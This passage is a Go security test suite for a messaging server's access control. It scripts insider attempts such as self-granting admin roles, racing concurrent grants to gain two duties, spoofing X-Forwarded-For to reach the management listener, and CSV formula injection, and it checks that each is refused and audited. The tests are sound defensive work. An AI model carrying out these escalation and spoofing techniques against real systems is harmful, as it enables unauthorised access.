package securitytest

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/parleyhq/parley/client"
	"github.com/parleyhq/parley/parleytest"
	"github.com/parleyhq/parley/wire"
)

// Attacks on the access-control features (issue 4, issue 5): role grants,
// custom roles and the two-person rule (Z9, Z10), the auditor's read-only
// duty (Z5), the system admin's distance from message content (Z4),
// supervision by department admins (Z3, D3), department isolation (Z7),
// the management listener (I6), leavers and the access review (Z8) and
// service accounts (Z11). Each is driven as an insider would try it — an
// administrator with a fresh second factor, a colluding colleague, a
// grant ID copied from someone else — and must end refused, unchanged and
// on the record; where the design lets something through (a security admin
// granting supervision), the scenario pins how narrow that is.

func init() {
	register("Access control: roles, supervision, isolation, management plane, leavers",
		scenario{ID: "Z9", Name: "security-admin-grants-roles-to-itself", Needs: accounts,
			Attack: "A security admin with a fresh second factor grants itself department_admin, auditor, system_admin, a custom role carrying supervision, and revokes its own role; a department admin grants itself security_admin: 403 each, its grants unchanged, audited",
			Run:    selfGrantBySecurityAdmin},
		scenario{ID: "Z9", Name: "two-person-request-decided-by-requester-or-target", Needs: accounts | isolated,
			Attack: "Under the two-person rule the requester and the target approve or deny a request, and a security admin files one for itself: 403, the request stays pending, nothing granted, audited; a third person's approval works, but not of a role that became a second duty while it waited (400)",
			Run:    twoPersonSelfDecision},
		scenario{ID: "Z10", Name: "system-admin-uses-role-routes-after-bootstrap", Needs: accounts,
			Attack: "Once a security admin exists, the system admin (fresh step-up) grants, revokes, approves, edits custom roles, switches the two-person rule and creates a user with a role: 403 each, nothing changed, audited",
			Run:    sysadminRoleRoutes},
		scenario{ID: "Z10", Name: "two-duties-assembled-through-grants", Needs: accounts,
			Attack: "Grant auditor, security_admin or a custom role with audit.read to the system admin, and system_admin or a custom role with users.create to an auditor; define a custom role spanning two duties: 400 invalid, grants unchanged, audited",
			Run:    twoDutiesThroughGrants},
		scenario{ID: "Z10", Name: "concurrent-grants-assemble-two-duties", Needs: accounts | isolated,
			Attack: "Two security admins at the same moment grant one person auditor and system_admin, or grant a custom role while the other adds a second duty to it: at most one succeeds, nobody ends with two duties",
			Run:    concurrentDuties},
		scenario{ID: "Z10", Name: "held-custom-role-edited-into-a-second-duty", Needs: accounts,
			Attack: "Add departments.manage, users.create or system.info to a custom role an auditor holds (409 conflict) or security.policy / roles.grant (400): the role unchanged, the holder still refused, audited",
			Run:    heldRoleSecondDuty},
		scenario{ID: "Z10", Name: "custom-role-carrying-the-security-duty", Needs: accounts,
			Attack: "Create or PATCH a custom role with security.policy, roles.grant, roles.manage, self, public or a look-alike permission, or named like a built-in role: 400/409, the role list unchanged, audited",
			Run:    customRoleSecurityDuty},
		scenario{ID: "Z5", Name: "auditor-calls-every-write-route", Needs: accounts,
			Attack: "The auditor (fresh step-up) calls every non-GET operation of the OpenAPI document whose x-permission its roles lack: 403 forbidden each, every refusal audited, the department tree and role list unchanged",
			Run:    auditorWrites},
		scenario{ID: "Z4", Name: "system-admin-reaches-content-through-oversight-routes", Needs: accounts,
			Attack: "The system admin (fresh step-up) calls every supervision, approval, access-review and audit operation — with a department admin's real grant ID — and grants department_admin to itself or a new sock-puppet account: 403, no content, nobody created, audited",
			Run:    sysadminOversightRoutes},
		scenario{ID: "Z4", Name: "colluding-security-admin-grants-supervision-to-system-admin", Needs: accounts | isolated,
			Attack: "A security admin grants the system admin department_admin over Engineering (designed: allowed, audited, its sessions end): it then reads Engineering only, through supervision only, with a reason and a fresh step-up, every read audited; Finance and plain history stay 404",
			Run:    collusionScopedSupervision},
		scenario{ID: "Z3", Name: "supervision-outside-scope-or-without-reason", Needs: accounts,
			Attack: "A department admin opens supervision of another department and of its parent (404, same answer as a made-up ID) and of its own without a usable reason (400): nothing opened, audited",
			Run:    supervisionOutsideScope},
		scenario{ID: "D3", Name: "supervised-read-outside-the-grant", Needs: accounts,
			Attack: "Under an active grant over Engineering, read, recall and mute in a Finance-only conversation: 404 like a made-up ID, not listed, nothing recalled or muted, plain history 404 too, audited",
			Run:    supervisedReadOutsideGrant},
		scenario{ID: "D3", Name: "expired-or-ended-supervision-grant", Needs: accounts | isolated | inProcess,
			Attack: "Use a supervision grant a minute after it expired, one ended early, and one whose department admin role over that department was revoked (fresh step-up): 403 on read, list, recall and mute, nothing recalled or muted, audited",
			Run:    supervisionExpiredOrEnded},
		scenario{ID: "Z3", Name: "supervision-grant-ID-of-another-admin", Needs: accounts,
			Attack: "A second department admin of the same department reads, lists, recalls, mutes and ends with the first one's grant ID: 404 like a made-up ID, the grant still active; an ordinary user gets 403",
			Run:    supervisionOtherAdminsGrant},
		scenario{ID: "Z7", Name: "strict-isolation-hidden-user-in-a-new-conversation", Needs: accounts | isolated,
			Attack: "Under strict isolation, start a direct conversation and a group with a user of another department: 404 exactly like a made-up user ID, no conversation created",
			Run:    isolationHiddenMember},
		scenario{ID: "Z7", Name: "strict-isolation-send-into-read-only-conversation", Needs: accounts | isolated,
			Attack: "Send into a conversation across departments that strict isolation made read-only, over REST and WebSocket: 403 forbidden and an error frame, nothing stored, the history still readable",
			Run:    isolationReadOnlySend},
		scenario{ID: "Z7", Name: "strict-isolation-directory-enumeration", Needs: accounts | isolated,
			Attack: "Under strict isolation, search the directory for a hidden user by exact username, prefix, display name, ID and case variant: the same empty answer as for a name nobody has",
			Run:    isolationDirectoryEnumeration},
		scenario{ID: "A5", Name: "role-change-ends-live-WebSocket-and-token", Needs: accounts,
			Attack: "Grant a role, revoke it, and change a held custom role while the holder has an open WebSocket: each time the socket closes with 1008 within 2 s and the old token answers 401, audited",
			Run:    roleChangeEndsSessions},
		scenario{ID: "I6", Name: "admin-routes-on-user-listener-answer-like-unknown-paths", Needs: accounts | isolated | inProcess,
			Options: func(*testing.T) []parleytest.ServerOption {
				return []parleytest.ServerOption{parleytest.WithManagementListener(nil, nil)}
			},
			Attack: "With a management listener, call every administrative operation on the user listener (also as HEAD, OPTIONS, PUT, TRACE) anonymously, as a user and as the system admin with step-up: status, body and headers identical to an unknown path; the admin's attempts audited",
			Run:    mgmtAdminRoutesOnUserListener},
		scenario{ID: "I6", Name: "user-routes-on-management-listener-answer-like-unknown-paths", Needs: accounts | isolated | inProcess,
			Options: func(*testing.T) []parleytest.ServerOption {
				return []parleytest.ServerOption{parleytest.WithManagementListener(nil, nil)}
			},
			Attack: "Call every user operation (login, me, conversations, send, WebSocket) on the management listener: identical to an unknown path, no session made, nothing sent",
			Run:    mgmtUserRoutesOnManagementListener},
		scenario{ID: "I6", Name: "X-Forwarded-For-from-a-disallowed-peer", Needs: accounts | isolated | inProcess,
			Options: func(*testing.T) []parleytest.ServerOption {
				return []parleytest.ServerOption{
					parleytest.WithManagementListener([]netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}, nil),
					parleytest.WithTrustedProxies(netip.MustParsePrefix("127.0.0.0/8")),
				}
			},
			Attack: "From 127.0.0.2, outside the management allow-list, claim 127.0.0.1 in X-Forwarded-For, X-Real-IP and Forwarded (loopback is a trusted proxy): no answer at all, audited with the real peer address",
			Run:    mgmtForwardedFor},
		scenario{ID: "Z8", Name: "access-review-CSV-formula-injection", Needs: accounts,
			Attack: "Display names starting with =, +, - and @ (HYPERLINK, DDE) in the access review's CSV: each cell comes out prefixed with ', no cell starts a formula, the JSON keeps the name exactly",
			Run:    accessReviewCSVInjection},
		scenario{ID: "Z8", Name: "access-review-flags-a-leaver-with-access", Needs: accounts | isolated | inProcess,
			Attack: "A department admin's end date passes: its token answers 401 at once, and once the sweep disabled it the access review (JSON and CSV) flags leaver_with_access, audited",
			Run:    accessReviewLeaverFlag},
		scenario{ID: "Z8", Name: "offboarded-leaver-keeps-nothing", Needs: accounts | throttles,
			Attack: "Offboard a department admin with an open WebSocket: closed with 1008 within 2 s, its token 401, its password answered like a wrong one, roles gone, the review shows it disabled, its messages kept, audited",
			Run:    offboardedLeaver},
		scenario{ID: "Z11", Name: "service-account-gains-admin-role-or-logs-in", Needs: accounts | throttles,
			Attack: "Grant a service account department_admin, auditor or a custom admin role (403), log in with its password (answered like a wrong one), use its API token for me, TOTP, step-up and password change (403): nothing changed",
			Run:    serviceAccountAbuse},
	)
}

// ---- helpers -------------------------------------------------------------------

// fixtureReason is the reason given for the grants the suite makes.
const fixtureReason = "security test fixture"

// supervisionReason is a business reason that passes validation (D3).
const supervisionReason = "HR case SEC-42: suspected disclosure of customer data"

// security returns the security admin with a fresh second factor. The
// first call makes it, which ends the bootstrap period and is itself a
// role grant needing the setup admin's fresh factor (A6).
func (e *env) security(t *testing.T) *account {
	t.Helper()
	if e.sec == nil {
		e.stepUp(t, e.admin(t))
	}
	sec := e.secAdmin(t)
	e.stepUp(t, sec)
	return sec
}

// holder makes a fresh account in dept and has the security admin grant it
// role over scope ("" for the role's default), then signs it in afresh —
// the grant ended its session (A5) — and enrols TOTP (A2).
func (e *env) holder(t *testing.T, prefix, dept, role, scope string) *account {
	t.Helper()
	a := e.createUser(t, e.unique(prefix), dept, nil)
	sec := e.security(t)
	res, err := sec.GrantRole(ctx(t), a.ID, wire.GrantRoleRequest{Role: role, DepartmentID: scope, Reason: fixtureReason})
	if err != nil || res.Status != "granted" {
		t.Fatalf("grant %s to %s: %+v, %v", role, a.Username, res, err)
	}
	e.loginAndEnrol(t, a)
	return a
}

// relogin gives a a new session (with TOTP) after a role change ended its
// sessions (A5).
func (e *env) relogin(t *testing.T, a *account) {
	t.Helper()
	a.SetToken(e.login(t, a).Token())
	a.checked = e.now()
}

// grantLabels lists a user's grants as "role" or "role@department",
// sorted, as the security admin reads them.
func (e *env) grantLabels(t *testing.T, userID string) []string {
	t.Helper()
	gs, err := e.secAdmin(t).UserGrants(ctx(t), userID)
	if err != nil {
		t.Fatalf("grants of %s: %v", userID, err)
	}
	var out []string
	for _, g := range gs {
		l := g.Role
		if g.DepartmentID != "" {
			l += "@" + g.DepartmentID
		}
		out = append(out, l)
	}
	slices.Sort(out)
	return out
}

func (e *env) sameGrants(t *testing.T, who string, userID string, before []string) {
	t.Helper()
	if after := e.grantLabels(t, userID); !slices.Equal(before, after) {
		t.Fatalf("%s's grants changed: %v → %v", who, before, after)
	}
}

// customRole defines a custom role (a unique name from name) as the
// security admin.
func (e *env) customRole(t *testing.T, name string, perms ...string) *wire.Role {
	t.Helper()
	r, err := e.security(t).CreateRole(ctx(t), wire.CreateRoleRequest{Name: e.unique(name + " "), Permissions: perms})
	if err != nil {
		t.Fatalf("custom role %s %v: %v", name, perms, err)
	}
	return r
}

// roleList is every role with its permissions, as the security admin
// reads it.
func (e *env) roleList(t *testing.T) []wire.Role {
	t.Helper()
	roles, err := e.secAdmin(t).Roles(ctx(t))
	if err != nil {
		t.Fatalf("roles: %v", err)
	}
	return roles
}

func rolesEqual(a, b []wire.Role) bool {
	return slices.EqualFunc(a, b, func(x, y wire.Role) bool {
		return x.RoleID == y.RoleID && x.Name == y.Name && slices.Equal(x.Permissions, y.Permissions)
	})
}

// wantCode fails unless err is an API error with status and code.
func wantCode(t *testing.T, what string, err error, status int, code string) *client.APIError {
	t.Helper()
	var ae *client.APIError
	if !errors.As(err, &ae) || ae.Status != status || ae.Code != code {
		t.Fatalf("%s: got %v, want %d %s", what, err, status, code)
	}
	return ae
}

// countAudit counts the records after mark that match.
func (e *env) countAudit(t *testing.T, mark int64, match func(wire.AuditRecord) bool) int {
	t.Helper()
	n := 0
	for _, r := range e.auditAfter(t, mark) {
		if match(r) {
			n++
		}
	}
	return n
}

// by matches a record of action and result by actor.
func by(actorID, action, result string) func(wire.AuditRecord) bool {
	return func(r wire.AuditRecord) bool { return r.ActorID == actorID && r.Action == action && r.Result == result }
}

// indistinguishable fails unless two answers are the same: status, body
// and every header but Date.
func indistinguishable(t *testing.T, what string, a, b *reply) {
	t.Helper()
	if a.Status != b.Status || !bytes.Equal(a.Body, b.Body) {
		t.Errorf("%s: %s vs %s", what, a, b)
		return
	}
	keys := map[string]bool{}
	for k := range a.Header {
		keys[k] = true
	}
	for k := range b.Header {
		keys[k] = true
	}
	for k := range keys {
		if k != "Date" && !slices.Equal(a.Header[k], b.Header[k]) {
			t.Errorf("%s: header %s %q vs %q", what, k, a.Header[k], b.Header[k])
		}
	}
}

// financeConversation is a conversation of carol with a Finance colleague
// (nobody from Engineering), made on first use.
func (e *env) financeConversation(t *testing.T) string {
	t.Helper()
	if id, ok := e.objs["conv:finance"]; ok {
		return id
	}
	carol := e.user(t, "carol")
	colleague := e.createUser(t, e.unique("fin"), e.dept(t, "Finance"), nil)
	id, err := carol.CreateConversation(ctx(t), "direct", []string{colleague.ID}, "")
	if err == nil {
		_, err = carol.Send(ctx(t), id, "fin-1", "SECRET-FINANCE-ONLY")
	}
	if err != nil {
		t.Fatalf("finance conversation: %v", err)
	}
	e.objs["conv:finance"] = id
	return id
}

// rootDepartment is the department without a parent.
func rootDepartment(t *testing.T, a *account) string {
	t.Helper()
	for _, d := range departmentsOf(t, a) {
		if d.ParentID == "" {
			return d.DepartmentID
		}
	}
	t.Fatal("no root department")
	return ""
}

// openSupervision opens supervision of dept as a (with a fresh step-up).
func (e *env) openSupervision(t *testing.T, a *account, dept string, minutes int) string {
	t.Helper()
	e.stepUp(t, a)
	op, err := a.OpenSupervision(ctx(t), dept, supervisionReason, "SEC-42", minutes)
	if err != nil || op.Status != "active" {
		t.Fatalf("open supervision: %+v, %v", op, err)
	}
	return op.SupervisionID
}

// ghostID is a well-formed ID nobody has.
func ghostID(prefix string) string { return prefix + strings.Repeat("q", 26) }

// twoPerson switches the two-person rule for administrator roles.
func (e *env) twoPerson(t *testing.T, on bool) {
	t.Helper()
	if err := e.security(t).SetRolePolicy(ctx(t), wire.RolePolicy{TwoPerson: on}); err != nil {
		t.Fatalf("two-person rule %v: %v", on, err)
	}
}

// isolation sets the department isolation template.
func (e *env) isolation(t *testing.T, template string) {
	t.Helper()
	if _, err := e.security(t).SetIsolationPolicy(ctx(t), wire.IsolationPolicy{Template: template}); err != nil {
		t.Fatalf("isolation %s: %v", template, err)
	}
}

// ---- Z9, Z10: grants and custom roles ----------------------------------------

func selfGrantBySecurityAdmin(t *testing.T, e *env) {
	eng := e.dept(t, "Engineering")
	dana := e.holder(t, "danaself", eng, "department_admin", "")
	desk := e.customRole(t, "Desk supervisor", "supervision")
	unlock := e.customRole(t, "Self unlock", "users.unlock")
	sec := e.security(t)
	secBefore, danaBefore := e.grantLabels(t, sec.ID), e.grantLabels(t, dana.ID)
	mark := e.auditMark(t)
	for _, g := range []wire.GrantRoleRequest{
		{Role: "department_admin", Reason: "I need it"},
		{Role: "department_admin", DepartmentID: eng},
		{Role: "auditor"},
		{Role: "system_admin"},
		{Role: desk.RoleID, DepartmentID: eng}, // supervision through a custom role (Z4)
		{Role: desk.RoleID},
		{Role: unlock.RoleID},
	} {
		_, err := sec.GrantRole(ctx(t), sec.ID, g)
		wantCode(t, "self-grant of "+g.Role, err, 403, "forbidden")
	}
	// Dropping one's own role is a change of one's own roles too.
	wantCode(t, "self-revoke", sec.RevokeRole(ctx(t), sec.ID, wire.GrantRoleRequest{Role: "security_admin"}), 403, "forbidden")
	// A department admin holds no roles.grant at all.
	e.stepUp(t, dana)
	for _, role := range []string{"security_admin", "department_admin", desk.RoleID} {
		r := e.do(t, req{method: "POST", path: "/api/v1/users/" + dana.ID + "/roles", token: dana.Token(),
			body: jsonBody(t, wire.GrantRoleRequest{Role: role, DepartmentID: e.dept(t, "Finance")})})
		expect(t, r, 403, "forbidden")
	}
	e.sameGrants(t, "the security admin", sec.ID, secBefore)
	e.sameGrants(t, "the department admin", dana.ID, danaBefore)
	if n := e.countAudit(t, mark, func(r wire.AuditRecord) bool {
		return by(sec.ID, "role.grant", "denied")(r) && strings.HasPrefix(r.Target, sec.ID+" ")
	}); n < 7 {
		t.Errorf("%d of 7 self-grants audited", n)
	}
	e.expectAudit(t, mark, "the self-revoke", by(sec.ID, "role.revoke", "denied"))
	e.expectAudit(t, mark, "the department admin's attempt", by(dana.ID, "api.denied", "denied"))
}

func twoPersonSelfDecision(t *testing.T, e *env) {
	sec := e.security(t)
	sec2 := e.holder(t, "sectwo", "", "security_admin", "")
	grantee := e.fresh(t, "grantee")
	aud := e.holder(t, "audwait", "", "auditor", "")
	unlock := e.customRole(t, "Unlock desk", "users.unlock")
	waiting := e.customRole(t, "Waiting desk", "users.unlock")
	e.twoPerson(t, true)
	secBefore, sec2Before, audBefore := e.grantLabels(t, sec.ID), e.grantLabels(t, sec2.ID), e.grantLabels(t, aud.ID)
	request := func(from *account, to string, role *wire.Role) string {
		t.Helper()
		e.stepUp(t, from)
		res, err := from.GrantRole(ctx(t), to, wire.GrantRoleRequest{Role: role.RoleID, Reason: "incident SEC-7"})
		if err != nil || res.Status != "pending_approval" || res.RequestID == "" {
			t.Fatalf("request: %+v, %v", res, err)
		}
		return res.RequestID
	}
	mark := e.auditMark(t)
	r1 := request(sec, sec2.ID, unlock) // requester sec, target sec2
	r2 := request(sec2, sec.ID, unlock) // requester sec2, target sec
	e.stepUp(t, sec)
	e.stepUp(t, sec2)
	for _, c := range []struct {
		who  *account
		id   string
		role string
	}{{sec, r1, "requester"}, {sec2, r1, "target"}, {sec2, r2, "requester"}, {sec, r2, "target"}} {
		for _, approve := range []bool{true, false} {
			_, err := c.who.DecideRoleRequest(ctx(t), c.id, approve)
			wantCode(t, c.role+" deciding", err, 403, "forbidden")
		}
	}
	// Filing a request for oneself is refused outright: no request exists.
	_, err := sec.GrantRole(ctx(t), sec.ID, wire.GrantRoleRequest{Role: unlock.RoleID})
	wantCode(t, "self-request", err, 403, "forbidden")
	reqs, err := sec.RoleRequests(ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	var pending, aboutSec []string
	for _, r := range reqs {
		if r.UserID == sec.ID {
			aboutSec = append(aboutSec, r.RequestID)
		}
		if (r.RequestID == r1 || r.RequestID == r2) && r.Status == "pending" && r.DecidedBy == "" {
			pending = append(pending, r.RequestID)
		}
	}
	if len(pending) != 2 || !slices.Equal(aboutSec, []string{r2}) {
		t.Fatalf("requests after the refusals (r1 %s, r2 %s): %+v", r1, r2, reqs)
	}
	e.sameGrants(t, "the requester", sec.ID, secBefore)
	e.sameGrants(t, "the target", sec2.ID, sec2Before)
	if n := e.countAudit(t, mark, func(r wire.AuditRecord) bool {
		return r.Action == "role.grant_decide" && r.Result == "denied"
	}); n < 8 {
		t.Errorf("%d of 8 refused decisions audited", n)
	}
	e.expectAudit(t, mark, "the self-request", by(sec.ID, "role.grant", "denied"))

	// The rule is not a wall: a request about a third person is approved
	// by the other security admin.
	r3 := request(sec, grantee.ID, unlock)
	e.stepUp(t, sec2)
	if res, err := sec2.DecideRoleRequest(ctx(t), r3, true); err != nil || res.Status != "granted" {
		t.Fatalf("approval by a third person: %+v, %v", res, err)
	}
	if !slices.Contains(e.grantLabels(t, grantee.ID), unlock.RoleID) {
		t.Fatal("the approved grant is missing")
	}

	// An approval judges the role as it is then: one turned into a second
	// duty while its request waited (a pending request is no holder, so the
	// change is allowed) is refused at approval.
	r4 := request(sec, aud.ID, waiting)
	e.stepUp(t, sec)
	if _, err := sec.UpdateRole(ctx(t), waiting.RoleID, wire.UpdateRoleRequest{Permissions: []string{"users.unlock", "users.create"}}); err != nil {
		t.Fatalf("changing the waiting role: %v", err)
	}
	e.stepUp(t, sec2)
	_, err = sec2.DecideRoleRequest(ctx(t), r4, true)
	wantCode(t, "approving a role that became a second duty", err, 400, "invalid")
	e.sameGrants(t, "the auditor", aud.ID, audBefore)
	e.twoPerson(t, false)
}

func sysadminRoleRoutes(t *testing.T, e *env) {
	e.security(t) // the bootstrap is over
	alice, aud, admin := e.user(t, "alice"), e.auditor(t), e.admin(t)
	role := e.customRole(t, "Unlock helpers", "users.unlock")
	aliceBefore, audBefore, adminBefore := e.grantLabels(t, alice.ID), e.grantLabels(t, aud.ID), e.grantLabels(t, admin.ID)
	rolesBefore := e.roleList(t)
	puppet := e.unique("puppet")
	e.stepUp(t, admin) // a fresh second factor changes nothing
	mark := e.auditMark(t)
	for _, rq := range []req{
		{method: "POST", path: "/api/v1/users/" + alice.ID + "/roles", body: []byte(`{"role":"department_admin","reason":"help"}`)},
		{method: "POST", path: "/api/v1/users/" + alice.ID + "/roles", body: jsonBody(t, wire.GrantRoleRequest{Role: role.RoleID})},
		{method: "POST", path: "/api/v1/users/" + admin.ID + "/roles", body: []byte(`{"role":"department_admin"}`)},
		{method: "POST", path: "/api/v1/users/" + aud.ID + "/roles/revoke", body: []byte(`{"role":"auditor"}`)},
		{method: "GET", path: "/api/v1/role-requests"},
		{method: "POST", path: "/api/v1/role-requests/" + ghostID("gr_") + "/approve"},
		{method: "POST", path: "/api/v1/roles", body: []byte(`{"name":"Admin's own","permissions":["users.unlock"]}`)},
		{method: "PATCH", path: "/api/v1/roles/" + url.PathEscape(role.RoleID), body: []byte(`{"permissions":["users.unlock","audit.read"]}`)},
		{method: "DELETE", path: "/api/v1/roles/" + url.PathEscape(role.RoleID)},
		{method: "PUT", path: "/api/v1/policy/roles", body: []byte(`{"two_person":false}`)},
	} {
		rq.token = admin.Token()
		if r := e.do(t, rq); r.Status != 403 || r.Err.Code != "forbidden" {
			t.Errorf("%s %s: %s", rq.method, rq.path, r)
		}
	}
	// A new account with a role is a grant too.
	r := e.do(t, req{method: "POST", path: "/api/v1/users", token: admin.Token(), body: jsonBody(t, wire.CreateUserRequest{
		Username: puppet, DisplayName: "Puppet", Password: password, Roles: []string{"department_admin"}})})
	expect(t, r, 403, "forbidden")
	if users, _ := admin.Users(ctx(t), puppet); len(users) != 0 {
		t.Fatalf("%s was created", puppet)
	}
	e.sameGrants(t, "alice", alice.ID, aliceBefore)
	e.sameGrants(t, "the auditor", aud.ID, audBefore)
	e.sameGrants(t, "the system admin", admin.ID, adminBefore)
	if after := e.roleList(t); !rolesEqual(rolesBefore, after) {
		t.Fatalf("roles changed: %+v → %+v", rolesBefore, after)
	}
	if n := e.countAudit(t, mark, by(admin.ID, "api.denied", "denied")); n < 10 {
		t.Errorf("%d of 10 refusals audited", n)
	}
	e.expectAudit(t, mark, "the refused user creation", by(admin.ID, "user.create", "denied"))
}

func twoDutiesThroughGrants(t *testing.T, e *env) {
	admin := e.admin(t)
	aud2 := e.holder(t, "audtwo", "", "auditor", "")
	logReader := e.customRole(t, "Log reader", "audit.read")
	provisioner := e.customRole(t, "Provisioner", "users.create")
	approver := e.customRole(t, "Approver", "supervision.approve")
	sec := e.security(t)
	adminBefore, audBefore := e.grantLabels(t, admin.ID), e.grantLabels(t, aud2.ID)
	rolesBefore := e.roleList(t)
	mark := e.auditMark(t)
	for _, c := range []struct {
		who  *account
		role string
	}{
		{admin, "auditor"}, {admin, "security_admin"}, {admin, logReader.RoleID}, {admin, approver.RoleID},
		{aud2, "system_admin"}, {aud2, "security_admin"}, {aud2, provisioner.RoleID},
	} {
		_, err := sec.GrantRole(ctx(t), c.who.ID, wire.GrantRoleRequest{Role: c.role, Reason: "two hats"})
		wantCode(t, "grant "+c.role+" to "+c.who.Username, err, 400, "invalid")
	}
	for _, perms := range [][]string{{"users.create", "audit.read"}, {"departments.manage", "supervision.approve"}, {"system.info", "audit.read"}} {
		_, err := sec.CreateRole(ctx(t), wire.CreateRoleRequest{Name: e.unique("Two duties "), Permissions: perms})
		wantCode(t, "custom role "+strings.Join(perms, "+"), err, 400, "invalid")
	}
	e.sameGrants(t, "the system admin", admin.ID, adminBefore)
	e.sameGrants(t, "the second auditor", aud2.ID, audBefore)
	if after := e.roleList(t); !rolesEqual(rolesBefore, after) {
		t.Fatalf("roles changed: %+v → %+v", rolesBefore, after)
	}
	// And the duties stay apart in practice.
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/audit?after_seq=0&limit=1", token: admin.Token()}), 403, "forbidden")
	expect(t, e.do(t, req{method: "POST", path: "/api/v1/departments", token: aud2.Token(), body: []byte(`{"name":"Audit annex"}`)}), 403, "forbidden")
	if n := e.countAudit(t, mark, by(sec.ID, "role.grant", "denied")); n < 7 {
		t.Errorf("%d of 7 refused grants audited", n)
	}
	e.expectAudit(t, mark, "a refused two-duty role", by(sec.ID, "role.create", "denied"))
}

// twoDuties reports whether the labels (grantLabels) reach into two
// administrator duties, by the permissions of the roles (roles).
func twoDuties(labels []string, roles []wire.Role) bool {
	duty := map[string]string{"users.create": "system", "users.manage": "system", "departments.manage": "system",
		"system.info": "system", "security.policy": "security", "roles.grant": "security", "roles.manage": "security",
		"audit.read": "audit", "supervision.approve": "audit"}
	held := map[string]bool{}
	for _, l := range labels {
		id, _, _ := strings.Cut(l, "@")
		for _, r := range roles {
			if r.RoleID == id {
				for _, p := range r.Permissions {
					if d, ok := duty[p]; ok {
						held[d] = true
					}
				}
			}
		}
	}
	return len(held) > 1
}

func concurrentDuties(t *testing.T, e *env) {
	const rounds = 6
	sec := e.security(t)
	sec2 := e.holder(t, "sectwo", "", "security_admin", "")
	// race runs a and b at once; whichever fails is the server's business,
	// the outcome is judged by the grants left behind.
	race := func(a, b func() error) {
		done := make(chan error)
		go func() { done <- a() }()
		_ = b()
		<-done
	}
	var violations []string
	var victim *account
	// Built-in roles: auditor and system_admin at once.
	for i := 0; i < rounds; i++ {
		u := e.createUser(t, e.unique("racer"), "", nil)
		e.stepUp(t, sec)
		e.stepUp(t, sec2)
		race(func() error {
			_, err := sec.GrantRole(ctx(t), u.ID, wire.GrantRoleRequest{Role: "auditor", Reason: "race"})
			return err
		}, func() error {
			_, err := sec2.GrantRole(ctx(t), u.ID, wire.GrantRoleRequest{Role: "system_admin", Reason: "race"})
			return err
		})
		if got := e.grantLabels(t, u.ID); twoDuties(got, e.roleList(t)) {
			violations = append(violations, u.Username+" "+strings.Join(got, ","))
			victim = u
		}
	}
	// A custom role granted to an auditor while it gains users.create.
	for i := 0; i < rounds; i++ {
		u := e.createUser(t, e.unique("racer"), "", nil)
		desk := e.customRole(t, "Race desk", "users.unlock")
		if _, err := sec.GrantRole(ctx(t), u.ID, wire.GrantRoleRequest{Role: "auditor", Reason: "race"}); err != nil {
			t.Fatal(err)
		}
		e.stepUp(t, sec2)
		race(func() error {
			_, err := sec.GrantRole(ctx(t), u.ID, wire.GrantRoleRequest{Role: desk.RoleID, Reason: "race"})
			return err
		}, func() error {
			_, err := sec2.UpdateRole(ctx(t), desk.RoleID, wire.UpdateRoleRequest{Permissions: []string{"users.unlock", "users.create"}})
			return err
		})
		if got := e.grantLabels(t, u.ID); twoDuties(got, e.roleList(t)) {
			violations = append(violations, u.Username+" "+strings.Join(got, ",")+" ("+desk.RoleID+" now with users.create)")
			if victim == nil {
				victim = u
			}
		}
	}
	if len(violations) == 0 {
		return
	}
	// What such a person can do: read the audit trail and run the system.
	e.loginAndEnrol(t, victim)
	_, auditErr := victim.Audit(ctx(t), 0, 1)
	_, infoErr := victim.BuildInfo(ctx(t))
	// Service.Grant and UpdateRole check the target's roles inside the
	// store's write transaction under the roles lock (sqldb
	// GrantRoleChecked), so two grants at once cannot each pass against
	// the roles before the other.
	t.Fatalf("%d of %d concurrent grant pairs left a person with two administrator duties (Z10): %q; one of them reads the audit trail (err %v) and the build info (err %v)",
		len(violations), 2*rounds, violations, auditErr, infoErr)
}

func heldRoleSecondDuty(t *testing.T, e *env) {
	aud2 := e.holder(t, "audthree", "", "auditor", "")
	desk := e.customRole(t, "Unlock desk", "users.unlock")
	sec := e.security(t)
	if res, err := sec.GrantRole(ctx(t), aud2.ID, wire.GrantRoleRequest{Role: desk.RoleID, Reason: fixtureReason}); err != nil || res.Status != "granted" {
		t.Fatalf("grant the desk role: %+v, %v", res, err)
	}
	e.relogin(t, aud2)
	rolesBefore := e.roleList(t)
	mark := e.auditMark(t)
	e.stepUp(t, sec)
	for _, perms := range [][]string{{"users.unlock", "departments.manage"}, {"users.unlock", "users.create"}, {"users.unlock", "system.info"},
		{"departments.manage"}, {"users.manage"}} {
		_, err := sec.UpdateRole(ctx(t), desk.RoleID, wire.UpdateRoleRequest{Permissions: perms})
		wantCode(t, "PATCH to "+strings.Join(perms, "+"), err, 409, "conflict")
	}
	for _, perms := range [][]string{{"users.unlock", "security.policy"}, {"roles.grant"}, {"users.unlock", "roles.manage"}} {
		_, err := sec.UpdateRole(ctx(t), desk.RoleID, wire.UpdateRoleRequest{Permissions: perms})
		wantCode(t, "PATCH to "+strings.Join(perms, "+"), err, 400, "invalid")
	}
	if after := e.roleList(t); !rolesEqual(rolesBefore, after) {
		t.Fatalf("roles changed: %+v → %+v", rolesBefore, after)
	}
	// The holder's session survived (nothing changed) and still reaches no
	// system duty.
	expect(t, e.do(t, req{method: "POST", path: "/api/v1/departments", token: aud2.Token(), body: []byte(`{"name":"Audit annex"}`)}), 403, "forbidden")
	expect(t, e.do(t, req{method: "GET", path: "/api/v1/admin/buildinfo", token: aud2.Token()}), 403, "forbidden")
	if n := e.countAudit(t, mark, by(sec.ID, "role.update", "denied")); n < 8 {
		t.Errorf("%d of 8 refused changes audited", n)
	}
}

func customRoleSecurityDuty(t *testing.T, e *env) {
	helpdesk := e.customRole(t, "Helpdesk", "users.unlock")
	sec := e.security(t)
	rolesBefore := e.roleList(t)
	mark := e.auditMark(t)
	for _, perms := range [][]string{{"security.policy"}, {"roles.grant"}, {"roles.manage"}, {"users.unlock", "security.policy"},
		{"users.unlock", "roles.grant"}, {"self"}, {"self.credentials"}, {"public"}, {"Security.Policy"}, {"roles.grant "},
		{"roles.*"}, {"*"}, {"users.unlock", "users.unlock"}} {
		r := e.do(t, req{method: "POST", path: "/api/v1/roles", token: sec.Token(),
